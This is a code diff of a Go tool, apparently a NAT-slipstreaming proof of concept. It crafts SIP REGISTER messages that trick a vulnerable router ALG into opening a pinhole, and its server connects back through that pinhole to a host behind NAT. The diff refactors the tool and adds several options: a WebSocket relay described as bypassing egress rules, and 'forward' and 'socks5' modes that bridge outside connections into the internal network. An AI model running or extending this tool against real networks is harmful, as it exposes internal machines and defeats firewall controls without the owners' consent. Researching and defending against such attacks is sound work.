@@ -2,153 +2,18 @@ package main
 
 import (
 	"bufio"
-	"bytes"
 	"flag"
 	"fmt"
-	"log"
+	"log/slog"
 	"net"
 	"os"
-	"regexp"
 	"strings"
 	"sync"
-	"text/template"
-)
-
-const sipResponse = "SIP/2.0 200 OK\r\n" +
-	"{{ .Via }};received=0.0.0.0\r\n" +
-	"From: <sip:wuzzi@example.org;transport=TCP>;tag=U7c3d519\r\n" +
-	"To: <sip:wuzzi@example.org;transport=TCP>;tag=37GkEhwl6\r\n" +
-	"Call-ID: aaaaaaaaaaaaaaaaa0404aaaaaaaaaaaabbbbbbZjQ4M2M.\r\n" +
-	"CSeq: 1 REGISTER\r\n" +
-	"{{ .Contact }};expires=3600\r\n" +
-	"Content-Length: 0\r\n" +
-	"\r\n"
-
-const sipRequest = "REGISTER sip:example.org;transport=TCP SIP/2.0\r\n" +
-	"Via: SIP/2.0/TCP {{ .LocalIP }}:{{ .RemotePort }};branch=I9hG4bK-d8754z-c2ac7de1b3ce90f7-1---d8754z-;rport;transport=TCP\r\n" +
-	"Max-Forwards: 70\r\n" +
-	"Contact: <sip:wuzzi@{{ .LocalIP }}:{{ .LocalPort }};rinstance=v40f3f83b335139c;transport=TCP>\r\n" +
-	"To: <sip:wuzzi@example.org;transport=TCP>\r\n" +
-	"From: <sip:wuzzi@example.org;transport=TCP>;tag=U7c3d519\r\n" +
-	"Call-ID: aaaaaaaaaaaaaaaaa0404aaaaaaaaaaaabbbbbbZjQ4M2M.\r\n" +
-	"CSeq: 1 REGISTER\r\n" +
-	"Expires: 60\r\n" +
-	"Allow: REGISTER, INVITE, ACK, CANCEL, BYE, NOTIFY, REFER, MESSAGE, OPTIONS, INFO, SUBSCRIBE\r\n" +
-	"Supported: replaces, norefersub, extended-refer, timer, X-cisco-serviceuri\r\n" +
-	"Allow-Events: presence, kpml\r\n" +
-	"Content-Length: 0\r\n" +
-	"\r\n"
-
-var extractContact = regexp.MustCompile(`Contact:[^\r]+`)
-var extractVia = regexp.MustCompile(`Via:[^\r]+`)
-var extractCallback = regexp.MustCompile(`@(?P<callback>[^;]+)`)
-
-func startSIPServer(sipPort string) error {
-	t := template.Must(template.New("sip_response").Parse(sipResponse))
-	l, err := net.Listen("tcp", ":"+sipPort)
-	if err != nil {
-		return err
-	}
-	defer l.Close()
-
-	for {
-		conn, err := l.Accept()
-		if err != nil {
-			log.Println("unable to accept connection:", err)
-			continue
-		}
-
-		log.Println("accepted connection from:", conn.RemoteAddr())
-
-		go handleConnection(conn, t)
-	}
-}
-
-func handleConnection(conn net.Conn, t *template.Template) {
-	defer conn.Close()
-	// TODO: we can probably switch this over to a bufio to make it more efficient
-	data := make([]byte, 0, 1024)
-	for {
-		ch := make([]byte, 1)
-		_, err := conn.Read(ch)
-		if err != nil {
-			log.Println("unable to read:", err)
-			return
-		}
-
-		data = append(data, ch...)
-
-		// TODO: swap out this comparison with bytes.Compare() to avoid the generation of a string
-		ds := string(data)
-		read := len(ds)
-		if read > 3 {
-			if ds[read-4:read] == "\r\n\r\n" {
-				break
-			}
-		}
-	}
-
-	contact := extractContact.Find(data)
-	if len(contact) < 1 {
-		log.Println("bad contact")
-		return
-	}
-
-	via := extractVia.Find(data)
-	if len(via) < 1 {
-		log.Println("bad via")
-		return
-	}
-
-	vars := struct {
-		Via     string
-		Contact string
-	}{
-		Via:     string(via),
-		Contact: string(contact),
-	}
-
-	var buff bytes.Buffer
-
-	// NOTE: we need to buffer this response. Writing directly to the
-	// connection caused the packets to get fragmented which stopped
-	// the ALG from working correctly
-	err := t.Execute(&buff, vars)
-	if err != nil {
-		log.Println("unable to execute response template:", err)
-		return
-	}
-
-	_, err = conn.Write(buff.Bytes())
-	if err != nil {
-		log.Println("error sending response: ", err)
-		return
-	}
-
-	matches := extractCallback.FindSubmatch(contact)
-
-	if len(matches) < 2 {
-		log.Println("invalid host/port in contact")
-		return
-	}
-
-	connectBackHost := string(matches[1])
-
-	log.Println("connecting back to:", connectBackHost)
-	c2, err := net.Dial("tcp", connectBackHost)
-	if err != nil {
-		log.Println("unable to connect to host behind NAT:", err)
-		return
-	}
 
-	defer c2.Close()
-	_, err = c2.Write([]byte("hello from the internet!\n"))
-	if err != nil {
-		log.Println("unable to write to host behind NAT:", err)
-	}
-}
+	"github.com/jrozner/slipstream/sip"
+)
 
-func setupListener(port string, wg *sync.WaitGroup) {
+func setupListener(port string, wg *sync.WaitGroup, logger *slog.Logger) {
 	defer wg.Done()
 	// NOTE: listening on :<port> ends up breaking when testing this in WSL
 	// doing port forwarding I assume due to WSL attempting to bind to
@@ -156,7 +21,8 @@ func setupListener(port string, wg *sync.WaitGroup) {
 	// Disabling the forwarding doesn't actually fix it.
 	ln, err := net.Listen("tcp", fmt.Sprintf(":%s", port))
 	if err != nil {
-		log.Fatal("unable to open socket for listening:", err)
+		logger.Error("unable to open socket for listening", "error", err)
+		os.Exit(1)
 	}
 
 	defer ln.Close()
@@ -165,7 +31,8 @@ func setupListener(port string, wg *sync.WaitGroup) {
 
 	conn, err := ln.Accept()
 	if err != nil {
-		log.Fatal("unable to accept incoming connect:", err)
+		logger.Error("unable to accept incoming connection", "error", err)
+		os.Exit(1)
 	}
 
 	defer conn.Close()
@@ -175,52 +42,98 @@ func setupListener(port string, wg *sync.WaitGroup) {
 	reader := bufio.NewReader(conn)
 	line, err := reader.ReadString('\n')
 	if err != nil {
-		log.Println("unable to read from connection:", err)
+		logger.Warn("unable to read from connection", "error", err)
 	}
 
 	fmt.Printf("received message from remote server: `%s`\n", strings.TrimRight(line, "\n"))
 }
 
-func sendRequest(host, localIP, localPort, remotePort string) error {
-	t := template.Must(template.New("sip_request").Parse(sipRequest))
-
-	vars := struct {
-		LocalIP    string
-		LocalPort  string
-		RemotePort string
-	}{
-		LocalIP:    localIP,
-		LocalPort:  localPort,
-		RemotePort: remotePort,
-	}
-
+// sendRequest builds and sends a REGISTER whose Contact points back at
+// localIP:localPort, the address a vulnerable SIP ALG will punch a pinhole
+// for. It drives the send through a sip.ClientTransaction, so the REGISTER
+// is retransmitted/timed-out per RFC 3261 17.1.2 and the ALG's response (if
+// any) gets logged, rather than firing the request and never looking back.
+func sendRequest(host, localIP, localPort, remotePort string, logger *slog.Logger) error {
 	conn, err := net.Dial("tcp", fmt.Sprintf("%s:%s", host, remotePort))
 	if err != nil {
 		return err
 	}
+	defer conn.Close()
 
-	// see note above about buffering response and fragmentation
-	var buff bytes.Buffer
-	err = t.Execute(&buff, vars)
+	uri, err := sip.ParseURI("sip:example.org;transport=TCP")
 	if err != nil {
 		return err
 	}
 
-	_, err = conn.Write(buff.Bytes())
+	req := sip.NewRequest("REGISTER", uri)
+	branch := sip.GenerateBranch()
+	req.Headers.Add(sip.HeaderVia, fmt.Sprintf("SIP/2.0/TCP %s:%s;branch=%s;rport;transport=TCP", localIP, remotePort, branch))
+	req.Headers.Add(sip.HeaderMaxForwards, "70")
+	req.Headers.Add(sip.HeaderContact, fmt.Sprintf("<sip:wuzzi@%s:%s;transport=TCP>", localIP, localPort))
+	req.Headers.Add(sip.HeaderTo, "<sip:wuzzi@example.org;transport=TCP>")
+	req.Headers.Add(sip.HeaderFrom, "<sip:wuzzi@example.org;transport=TCP>;tag="+sip.GenerateTag())
+	req.Headers.Add(sip.HeaderCallID, sip.GenerateBranch())
+	req.Headers.Add(sip.HeaderCSeq, "1 REGISTER")
+	req.Headers.Add(sip.HeaderExpires, "60")
+	req.Headers.Add("Allow", "REGISTER, INVITE, ACK, CANCEL, BYE, NOTIFY, REFER, MESSAGE, OPTIONS, INFO, SUBSCRIBE")
+
+	logger.Info("sending register", "remote_addr", conn.RemoteAddr().String(), "call_id", req.CallID())
+
+	tl := sip.NewTransactionLayer()
+	ct := &connTransport{conn: conn, reliable: true}
+
+	tx, err := tl.NewClientTransaction(req, ct)
 	if err != nil {
 		return err
 	}
 
-	return nil
+	go func() {
+		parser := sip.NewParser(conn)
+		for {
+			msg, err := parser.ReadMessage()
+			if err != nil {
+				return
+			}
+			if resp, ok := msg.(*sip.Response); ok {
+				tl.ReceiveResponse(resp)
+			}
+		}
+	}()
+
+	if err := tx.Send(); err != nil {
+		return err
+	}
+
+	for {
+		select {
+		case resp := <-tx.Responses():
+			logger.Info("received register response", "status", resp.StatusCode, "reason", resp.Reason)
+			if !resp.IsProvisional() {
+				return nil
+			}
+		case <-tx.Done():
+			logger.Warn("register transaction timed out without a final response")
+			return nil
+		}
+	}
 }
 
 func main() {
 	var (
-		remotePort string
-		localPort  string
-		localIP    string
-		host       string
-		listen     bool
+		remotePort  string
+		localPort   string
+		localIP     string
+		host        string
+		listen      bool
+		transports  string
+		tlsCertFile string
+		tlsKeyFile  string
+		wsPath      string
+		relay       string
+		mode        string
+		forward     string
+		logFormat   string
+		logLevel    string
 	)
 
 	flag.StringVar(&localPort, "lp", "", "the port to listen on locally (server and client)")
@@ -228,9 +141,33 @@ func main() {
 	flag.StringVar(&localIP, "ip", "", "the local NAT ip to connect back to")
 	flag.StringVar(&host, "host", "", "the host to connect to")
 	flag.BoolVar(&listen, "l", false, "listen for incoming connections; this makes it a server")
+	flag.StringVar(&transports, "transport", "tcp", "comma separated list of transports to listen on (server): tcp,udp,tls,ws,wss; each defaults to -lp except tls (5061) and wss (443), or override per-entry with name:port, e.g. tcp,tls:5062")
+	flag.StringVar(&tlsCertFile, "tls-cert", "", "TLS certificate file (server, tls/wss transport); a self-signed cert is generated if omitted")
+	flag.StringVar(&tlsKeyFile, "tls-key", "", "TLS key file (server, tls/wss transport); a self-signed cert is generated if omitted")
+	flag.StringVar(&wsPath, "ws-path", "/", "HTTP path to serve SIP-over-WebSocket traffic on (server, ws/wss transport)")
+	flag.StringVar(&relay, "relay", "", "ws(s):// relay URL to send the register through (client); bypasses egress that only permits outbound WebSocket")
+	flag.StringVar(&mode, "mode", "echo", "what to do with a punched connect-back connection (server): echo, forward, socks5")
+	flag.StringVar(&forward, "forward", "", "local host:port to bridge punched connections to (server, forward mode)")
+	flag.StringVar(&logFormat, "log-format", "text", "log output format: text or json")
+	flag.StringVar(&logLevel, "log-level", "info", "log level: debug, info, warn or error")
+
+	if len(os.Args) > 1 && os.Args[1] == "probe" {
+		if err := runProbeCommand(os.Args[2:]); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			os.Exit(1)
+		}
+
+		return
+	}
 
 	flag.Parse()
 
+	logger, err := newLogger(logFormat, logLevel)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+
 	if listen {
 		if localPort == "" {
 			fmt.Fprintf(os.Stderr, "you must specify a local port\n")
@@ -238,9 +175,27 @@ func main() {
 			os.Exit(1)
 		}
 
-		err := startSIPServer(localPort)
+		ts, err := buildTransports(transports, localPort, tlsCertFile, tlsKeyFile, wsPath)
 		if err != nil {
-			log.Fatal("unable to start SIP sever", err)
+			fmt.Fprintln(os.Stderr, err)
+			os.Exit(1)
+		}
+
+		cb, err := buildConnectBackHandler(mode, forward)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			os.Exit(1)
+		}
+
+		server := NewServer()
+		server.Logger = logger
+		server.HandleMethod("REGISTER", registerHandler(cb))
+		server.HandleMethod("OPTIONS", optionsHandler)
+		server.HandleMethod("INVITE", inviteHandler(cb))
+
+		if err := server.Serve(ts); err != nil {
+			logger.Error("unable to start SIP server", "error", err)
+			os.Exit(1)
 		}
 	} else {
 		if localPort == "" {
@@ -267,13 +222,21 @@ func main() {
 			os.Exit(1)
 		}
 
+		if relay != "" {
+			if err := runRelayClient(relay, localIP, localPort, remotePort, logger); err != nil {
+				logger.Error("unable to complete relay request", "error", err)
+				os.Exit(1)
+			}
+			return
+		}
+
 		wg := sync.WaitGroup{}
 		wg.Add(1)
-		go setupListener(localPort, &wg)
+		go setupListener(localPort, &wg, logger)
 
-		err := sendRequest(host, localIP, localPort, remotePort)
-		if err != nil {
-			log.Fatal(err)
+		if err := sendRequest(host, localIP, localPort, remotePort, logger); err != nil {
+			logger.Error("unable to send request", "error", err)
+			os.Exit(1)
 		}
 
 		wg.Wait()